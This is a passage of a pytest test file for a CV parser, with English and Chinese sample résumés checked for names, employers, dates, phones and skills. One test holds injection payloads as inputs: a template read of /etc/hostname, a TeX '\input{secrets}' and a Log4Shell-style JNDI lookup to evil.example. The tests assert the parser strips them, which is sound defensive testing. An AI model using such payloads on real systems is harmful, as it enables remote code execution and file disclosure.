        f"Ann Marsh\n\nEmail me on Indeed: indeed.com/r/example\n\nWORK EXPERIENCE\n\n{lines}\n"
    )
    assert document["basics"]["name"] == "Ann Marsh"
    found = document.get("work", [])
    assert [(j.get("position"), j.get("startDate"), j.get("endDate")) for j in found] == work
    assert not any("name" in job for job in found)


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("2021.6-2024.8义乌小象电商 双十一一天接待过800多人", "/work/1"),
        ("carer in Hull, no GCSEs", "/education"),
        ("army truck driver oh seven to thirteen CDL A", "/basics/name"),
        ("navy oh seven to thirteen AWS certified", "/certificates/0/date"),
    ],
)
def test_nothing_is_made_of_words_that_only_look_like_it(text: str, path: str) -> None:
    document = parse_fields(text, today=TODAY).document
    assert document
    assert get_at(document, path) is MISSING


def test_a_vocational_college_may_be_named_in_short() -> None:
    study = parse_fields("2007.9—2010.6 唐山职院 数控技术 大专", today=TODAY).document["education"]
    assert (study[0]["institution"], study[0]["area"]) == ("唐山职院", "数控技术")


# --- who somebody is, wherever it stands --------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "name", "label"),
    [
        ("Gaps: none.\nTo whom it may concern.\nOdile Brackwater, nurse, Hull\nTwo wards.",
         "Odile Brackwater", "nurse"),
        ("Profile\nPunctual and kind.\nOdile Brackwater - Electrician - Leeds\nWired flats 2015-2020.",
         "Odile Brackwater", "Electrician"),
        ("A note for the reader.\nCV of Odile Brackwater\nCook, Leicester, 12 yrs", "Odile Brackwater",
         None),
        ("(以下内容请如实录入)\n求职材料\n覃小勇,电工,南宁\n2017-2024 广西路桥 电工", "覃小勇", None),
    ],
)  # fmt: skip
def test_a_line_of_name_and_trade_says_who_it_is(text, name, label):
    document = read(text)
    assert document["basics"]["name"] == name
    assert label is None or document["basics"]["label"] == label
    assert all(name not in str(each.get("name")) for each in document.get("work", []))


@pytest.mark.parametrize(
    "text",
    [
        "Employment gaps: none.\nHappy to work nights.\nCity and Guilds, plumbing, Leeds",
        "I want work.\nAnything.\nNorthern Rail, driver, 2012-2019",
    ],
)
def test_a_line_of_something_else_gives_nobody_a_name(text):
    assert "name" not in read(text).get("basics", {})


def test_lines_of_markup_are_kept_as_they_stand_but_none_that_lead_elsewhere():
    lines = ['#read("/etc/hostname")', "\\input{secrets}", "${jndi:ldap://evil.example/a} #f(1)"]
    document = read("\n".join(["Odile Brackwater", *lines, "Signwriter, Stroud, since 2016"]))
    kept = [value for _path, value in leaves_of(document)]
    assert any('#read("/etc/hostname")' in str(each) for each in kept)
    assert "jndi" not in str(document)


@pytest.mark.parametrize("lead", ["李敏 杭州 13700002266 ", "李敏 13700002266 ", "李敏 杭州 "])
def test_a_life_in_one_line_keeps_its_name_times_and_number(lead: str) -> None:
    document = read(
        f"{lead}2018.7-2020.5 杭州绿城物业 客服管家 2020.6-2023.11 万科物业 客服主管 带8人团队"
    )
    assert document["basics"]["name"] == "李敏"
    assert document["basics"].get("phone", "") in ("", "13700002266")
    assert ("phone" in document["basics"]) == ("137" in lead)
    assert [(j["name"], j["position"], j["startDate"], j["endDate"]) for j in document["work"]] == [
        ("万科物业", "客服主管", "2020-06", "2023-11"),
        ("杭州绿城物业", "客服管家", "2018-07", "2020-05"),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "海尔 青岛 2018.7-2020.5 装配工",
        "海尔 2018.7-2020.5 装配工",
        "WORK\nTed Baker, Sales Assistant, York\nJan 2019 - Mar 2021\n",
        "REFERENCES\nMark Smith, Store Manager, York\n",
    ],
)
def test_an_employer_or_referee_is_not_the_person(text: str) -> None:
    assert "name" not in read(text).get("basics", {})


def test_a_file_in_tex_is_not_kept_by_the_line():
    text = "\\documentclass{article}\n\\input{secrets}\n\\begin{document}\nJo Bell, cook, Hull\n"
    assert "secrets" not in str(read(text))


@pytest.mark.parametrize(
    ("text", "digits"),
    [("王芳 电话 010 2019-5566 文员", "01020195566"), ("Amy +852 2012-3456 clerk", "+85220123456")],
)
def test_a_landline_that_holds_a_year_is_kept_whole(text: str, digits: str) -> None:
    assert read(text)["basics"]["phone"] == digits


@pytest.mark.parametrize(
    "employer",
    [
        "万达影城",
        "人保财险",
        "名创优品",
        "字节跳动",
        "万科物业",
        "个体经营",
        "米其林餐厅",
        "起点中文网",
    ],
)
def test_an_employer_behind_a_year_makes_no_number_of_it(employer: str) -> None:
    (job,) = read(f"张伟\n2018-2020 {employer} 店员\n")["work"]
    assert (job["name"], job["startDate"], job["endDate"]) == (employer, "2018", "2020")


@pytest.mark.parametrize(
    ("text", "has", "lacks"),
    [
        ("hi im jess. can do balayage, extensions, no barbering", "balayage", "barbering"),
        ("我会CAD、SolidWorks,不会PS", "CAD", "PS"),
        ("我会炒菜,不会开车", "炒菜", "开车"),
        ("懂电路,不懂编程", "电路", "编程"),
    ],
)
def test_what_is_said_to_be_no_skill_is_none(text: str, has: str, lacks: str) -> None:
    names = [skill["name"] for skill in parse_fields(text, today=TODAY).document["skills"]]
    assert has in names
    assert not any(lacks in name for name in names)


def test_a_subject_between_school_and_degree_is_kept() -> None:
    text = "我今年刚毕业 武汉职业技术学院 机电一体化 大专 会CAD"
    (study,) = parse_fields(text, today=TODAY).document["education"]
    assert (study["institution"], study["area"]) == ("武汉职业技术学院", "机电一体化")


@pytest.mark.parametrize(
    ("text", "posts"),
    [
        (
            "我叫陆建国先在常州中天钢铁干了四年轧钢工后来嫌太热了去年三月跳到无锡一家做电机的厂当装配工",
            {("常州中天钢铁", "轧钢工", None), (None, "装配工", "2025-03")},
        ),
        (
            "我在厂里当普工干了两年,21年换到昆山一家厂当叉车工",
            {(None, "普工", None), (None, "叉车工", "2021")},
        ),
    ],
)
def test_another_place_without_a_name_is_another_job(
    text: str, posts: set[tuple[str | None, ...]]
) -> None:
    work = parse_fields(text, today=TODAY).document["work"]
    assert {(j.get("name"), j.get("position"), j.get("startDate")) for j in work} == posts
